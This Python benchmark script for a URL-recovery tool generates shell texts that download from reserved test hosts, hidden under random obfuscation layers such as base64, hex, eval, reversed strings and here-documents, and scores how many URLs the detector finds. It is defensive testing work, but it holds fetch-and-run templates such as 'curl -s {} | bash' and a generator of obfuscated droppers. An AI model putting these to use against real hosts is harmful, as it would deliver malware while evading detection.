"""URLs hidden three layers deep in shell texts, to measure recovery on what no data set holds.

Each text fetches one URL with one client; the URL and then the command are wrapped by layers drawn at random:
variables, splitting, quoting, base64, hex, octal, printf, arrays, reversed strings, IFS, functions, eval,
here-documents. The seed is printed with the result, so that a run can be repeated. Prints one JSON line.

    python bench/obfuscate.py [--count N] [--layers N] [--seed N] [--show N]
"""

from __future__ import annotations

import argparse
import base64
import json
import random
import string
import sys
import time
from collections import Counter
from collections.abc import Callable

from urltrap import recover
from urltrap.model.url import canonical

Word = Callable[[random.Random, str], tuple[str, str]]
"""(commands that must run before, a shell word whose value is the given text)."""
Wrap = Callable[[random.Random, str], str]
"""A shell text that runs the given one."""


def name(rng: random.Random) -> str:
    """A variable or function name that no text has by chance."""
    return rng.choice(string.ascii_lowercase) + "".join(
        rng.choices(string.ascii_letters + string.digits, k=6)
    )


def single(text: str) -> str:
    """In single quotes."""
    return "'" + text.replace("'", "'\\''") + "'"


# -- words


def plain(rng: random.Random, text: str) -> tuple[str, str]:
    return "", single(text)


def variable(rng: random.Random, text: str) -> tuple[str, str]:
    it = name(rng)
    return f"{it}={single(text)}; ", rng.choice([f'"${it}"', f"${{{it}}}", f"${it}"])


def split(rng: random.Random, text: str) -> tuple[str, str]:
    places = sorted(rng.sample(range(1, len(text)), min(3, len(text) - 1)))
    parts = [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]
    names = [name(rng) for _ in parts]
    order = list(zip(names, parts, strict=True))
    rng.shuffle(order)
    return "; ".join(f"{n}={single(p)}" for n, p in order) + "; ", '"' + "".join(
        f"${{{n}}}" for n in names
    ) + '"'


def quoting(rng: random.Random, text: str) -> tuple[str, str]:
    def one(char: str) -> str:
        return rng.choice([char, f"'{char}'", f'"{char}"', f"\\{char}", f"{char}''", f'""{char}'])

    return "", "".join(one(char) if char.isalnum() else f"'{char}'" for char in text)


def base64_word(rng: random.Random, text: str) -> tuple[str, str]:
    coded = base64.b64encode(text.encode()).decode()
    decoder = rng.choice(
        ["base64 -d", "base64 --decode", "openssl base64 -d -A", "openssl enc -base64 -d -A"]
    )
    return "", f'"$({rng.choice(["echo", "echo -n", "printf %s"])} {coded} | {decoder})"'


def hex_word(rng: random.Random, text: str) -> tuple[str, str]:
    return "", f'"$(echo {text.encode().hex()} | xxd -r -p)"'


def printf_hex(rng: random.Random, text: str) -> tuple[str, str]:
    coded = "".join(f"\\x{byte:02x}" for byte in text.encode())
    return "", rng.choice(
        [f"\"$(printf '{coded}')\"", f"$'{coded}'", f"\"$(echo -e '{coded}')\"", f"\"`printf '{coded}'`\""]
    )


def octal(rng: random.Random, text: str) -> tuple[str, str]:
    coded = "".join(f"\\{byte:03o}" for byte in text.encode())
    return "", rng.choice([f"\"$(printf '{coded}')\"", f"$'{coded}'"])


def reversed_word(rng: random.Random, text: str) -> tuple[str, str]:
    return "", f'"$(echo {single(text[::-1])} | rev)"'


def array(rng: random.Random, text: str) -> tuple[str, str]:
    it = name(rng)
    places = sorted(rng.sample(range(1, len(text)), min(3, len(text) - 1)))
    parts = [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]
    order = list(range(len(parts)))
    rng.shuffle(order)
    slots = {number: place for place, number in enumerate(order)}
    held = " ".join(single(parts[number]) for number in order)
    return f"{it}=({held}); ", '"' + "".join(
        f"${{{it}[{slots[number]}]}}" for number in range(len(parts))
    ) + '"'


def substitution(rng: random.Random, text: str) -> tuple[str, str]:
    it = name(rng)
    junk = rng.choice(["@@", "QZX", "__-", "~~"])
    at = rng.randrange(1, len(text))
    return f"{it}={single(text[:at] + junk + text[at:])}; ", f'"${{{it}/{single(junk)}/}}"'


def trimmed(rng: random.Random, text: str) -> tuple[str, str]:
    it = name(rng)
    return f"{it}={single('aaa:' + text + ':zzz')}; {it}=${{{it}#aaa:}}; ", f'"${{{it}%:zzz}}"'


def translated(rng: random.Random, text: str) -> tuple[str, str]:
    table = str.maketrans(string.ascii_lowercase, string.ascii_lowercase[13:] + string.ascii_lowercase[:13])
    return "", f"\"$(echo {single(text.translate(table))} | tr 'a-z' 'n-za-m')\""


def function(rng: random.Random, text: str) -> tuple[str, str]:
    it = name(rng)
    return f"{it}() {{ echo {single(text)}; }}; ", f'"$({it})"'


def pasted(rng: random.Random, text: str) -> tuple[str, str]:
    it, other = name(rng), name(rng)
    at = rng.randrange(1, len(text))
    return f"{it}={single(text[:at])}; {other}={single(text[at:])}; {it}+=${other}; ", f'"${it}"'


WORDS: dict[str, Word] = {
    "plain": plain, "variable": variable, "split": split, "quoting": quoting, "base64": base64_word, "hex": hex_word,
    "printf": printf_hex, "octal": octal, "reversed": reversed_word, "array": array, "replace": substitution,
    "trim": trimmed, "tr": translated, "function": function, "append": pasted,
}  # fmt: skip


# -- commands


def eval_single(rng: random.Random, text: str) -> str:
    return f"eval {single(text)}"


def eval_variable(rng: random.Random, text: str) -> str:
    it = name(rng)
    return f'{it}={single(text)}; eval "${it}"'


def shell_c(rng: random.Random, text: str) -> str:
    return f"{rng.choice(['bash', '/bin/bash', '$SHELL', 'nohup bash'])} -c {single(text)}"


def piped_base64(rng: random.Random, text: str) -> str:
    coded = base64.b64encode(text.encode()).decode()
    return f"echo {coded} | base64 -d | {rng.choice(['bash', 'bash -s', '/bin/bash'])}"


def piped_hex(rng: random.Random, text: str) -> str:
    return f"echo {text.encode().hex()} | xxd -r -p | bash"


def printf_eval(rng: random.Random, text: str) -> str:
    coded = "".join(f"\\x{byte:02x}" for byte in text.encode())
    return rng.choice(
        [f"eval \"$(printf '{coded}')\"", f"printf '{coded}' | bash", f"bash <(printf '{coded}')"]
    )


def octal_eval(rng: random.Random, text: str) -> str:
    coded = "".join(f"\\{byte:03o}" for byte in text.encode())
    return f"eval \"$(printf '{coded}')\""


def reversed_eval(rng: random.Random, text: str) -> str:
    return f"echo {single(text[::-1])} | rev | bash" if "\n" not in text else eval_single(rng, text)


def in_function(rng: random.Random, text: str) -> str:
    it = name(rng)
    return f"{it}() {{ {text}\n}}; {it}"


def here_file(rng: random.Random, text: str) -> str:
    mark, path = name(rng).upper(), "/tmp/." + name(rng)
    return f"cat > {path} << '{mark}'\n{text}\n{mark}\n{rng.choice(['bash', '.', 'source'])} {path}"


def echo_file(rng: random.Random, text: str) -> str:
    path = "/tmp/" + name(rng)
    return f"echo {single(text)} > {path}; chmod +x {path}; bash {path}"


def here_string(rng: random.Random, text: str) -> str:
    return f"bash <<< {single(text)}"


def substituted(rng: random.Random, text: str) -> str:
    return f": $({text}\n)"


def background(rng: random.Random, text: str) -> str:
    return f"( {text}\n) > /dev/null 2>&1 &"


def branch(rng: random.Random, text: str) -> str:
    return rng.choice([
        f"if [ -f /no/such ]; then echo no; else {text}\nfi", f"if which nosuch; then :; elif true; then {text}\nfi",
        f"while true; do {text}\nbreak; done", f"for {name(rng)} in 1; do {text}\ndone", f"false || {{ {text}\n}}",
        f"case $(uname -s) in Darwin) :;; *) {text}\n;; esac",
    ])  # fmt: skip


WRAPS: dict[str, Wrap] = {
    "eval": eval_single, "eval-variable": eval_variable, "sh-c": shell_c, "base64|sh": piped_base64,
    "hex|sh": piped_hex, "printf|sh": printf_eval, "octal-eval": octal_eval, "rev|sh": reversed_eval,
    "function": in_function,
    "here-document": here_file, "echo-file": echo_file, "here-string": here_string, "substitution": substituted,
    "background": background, "branch": branch,
}  # fmt: skip

CLIENTS = (
    "wget -q {} -O /tmp/x", "curl -fsSL {} -o /tmp/x", "wget -O- {} | sh", "curl -s {} | bash", "busybox wget {}",
    "wget$IFS-q$IFS{}", "nohup wget {} &", "timeout 10 curl -O {}", "echo {} | xargs wget -q",
)  # fmt: skip


def address(rng: random.Random) -> str:
    """A URL of a reserved network or name, in many shapes."""
    host = rng.choice([
        f"198.51.100.{rng.randrange(1, 255)}", f"203.0.113.{rng.randrange(1, 255)}", f"{name(rng).lower()}.invalid",
        f"{name(rng).lower()}.{name(rng).lower()}.test",
    ])  # fmt: skip
    port = rng.choice(["", "", f":{rng.randrange(1024, 65536)}"])
    folders = "".join("/" + name(rng) for _ in range(rng.randrange(0, 3)))
    file = rng.choice(["x86", "bins.sh", "a.sh", "linux", "i", name(rng), "d.php?id=7&k=" + name(rng)])
    return f"{rng.choice(['http', 'http', 'https'])}://{host}{port}{folders}/{file}"


def obfuscated(rng: random.Random, url: str, layers: int) -> tuple[str, tuple[str, ...]]:
    """A text that fetches `url`, and the names of its layers from the inside out."""
    kind = rng.choice(list(WORDS))
    before, word = WORDS[kind](rng, url)
    client = rng.choice(CLIENTS)
    if "$IFS" in client or "{} |" in client:
        before, word, kind = ("", single(url), "plain") if "$IFS" in client else (before, word, kind)
    text = before + client.format(word)
    used = [kind]
    for _ in range(layers - 1):
        wrap = rng.choice(list(WRAPS))
        text = WRAPS[wrap](rng, text)
        used.append(wrap)
    return text, tuple(used)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--count", type=int, default=5000)
    parser.add_argument("--layers", type=int, default=3)
    parser.add_argument("--seed", type=int, default=20261124)
    parser.add_argument("--show", type=int, default=0, help="print so many texts whose URL was not found")
    options = parser.parse_args()
    rng = random.Random(options.seed)
    missed: Counter[str] = Counter()
    found = extra = size = 0
    shown = 0
    recover.urls(b"true")
    start = time.process_time()
    for _ in range(options.count):
        url = address(rng)
        text, used = obfuscated(rng, url, options.layers)
        data = text.encode()
        size += len(data)
        got = {item.url for item in recover.urls(data) if item.confidence >= 60 and not item.runtime}
        if canonical(url) in got:
            found += 1
        else:
            missed.update(used)
            if shown < options.show:
                shown += 1
                print(used, url, repr(text), got, file=sys.stderr)
        extra += len(got - {canonical(url)})
    spent = time.process_time() - start
    print(json.dumps({
        "bench": "obfuscate", "seed": options.seed, "texts": options.count, "layers": options.layers,
        "recall": round(found / options.count, 4), "false_urls": extra, "texts_per_s": round(options.count / spent, 1),
        "mb_per_s": round(size / spent / 1e6, 3), "missed_by_layer": dict(missed.most_common(8)),
    }))  # fmt: skip


if __name__ == "__main__":
    main()
